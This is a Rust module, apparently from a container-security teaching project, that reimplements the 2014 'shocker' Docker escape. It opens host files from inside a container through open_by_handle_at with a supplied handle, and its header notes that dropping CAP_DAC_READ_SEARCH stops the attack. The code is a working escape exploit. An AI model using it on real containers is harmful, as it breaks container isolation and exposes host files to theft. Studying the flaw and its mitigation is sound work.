//! `handle KIND:BYTES`: a file of the host, opened by its handle. Known as *shocker*, 2014.
//!
//! `open_by_handle_at` finds an inode by its number. No path is walked, so neither a root nor a mount is in the
//! way: any file of a *filesystem* of which the container sees a part can be opened. Docker before 0.12 forgot to
//! take CAP_DAC_READ_SEARCH away, and a bind mount such as `/etc/hosts` was the part that it needed.
//! Source: Sebastian Krahmer's `shocker.c`, June 2014. It guesses the handle (the root directory of an ext4 is
//! inode 2); here it is told, because on a tmpfs part of the handle is random.
//! Succeeds in: chapter 3.
//! Stopped by: no CAP_DAC_READ_SEARCH (chapter 6); without it Docker's filter refuses the call as well.

use crate::named;
use coracle_ground::sys::{self, FileHandle};
use coracle_ground::{Errno, Error, Result};
use std::fs::File;
use std::io::Read;
use std::path::Path;

/// Opens the file of that handle on the filesystem of `/`, and reads its first line.
pub(crate) fn run(arguments: &[String]) -> Result<String> {
    let told = arguments.first().and_then(|word| parse(word));
    let handle = told.ok_or_else(|| Error::new("use KIND:BYTES, as `handle-of` prints it", Errno::EINVAL))?;
    let mount = File::open("/").map_err(|error| named("open `/`", &error))?;
    let mut text = String::new();
    let mut file = File::from(sys::open_by_handle(&mount, &handle)?);
    file.read_to_string(&mut text).map_err(|error| named("read the file", &error))?;
    Ok(format!("a file outside of the root says {:?}", text.lines().next().unwrap_or_default()))
}

/// `handle-of FILE`, on the host.
pub(crate) fn print(arguments: &[String]) -> Result<String> {
    let path = arguments.first().ok_or_else(|| Error::new("name a file", Errno::EINVAL))?;
    let FileHandle { kind, bytes } = sys::handle_of(Path::new(path))?;
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    Ok(format!("{kind}:{hex}"))
}

fn parse(word: &str) -> Option<FileHandle> {
    let (kind, hex) = word.split_once(':')?;
    let byte = |at| u8::from_str_radix(hex.get(at..at + 2)?, 16).ok();
    let bytes = (0..hex.len()).step_by(2).map(byte).collect::<Option<Vec<u8>>>()?;
    Some(FileHandle { kind: kind.parse().ok()?, bytes })
}
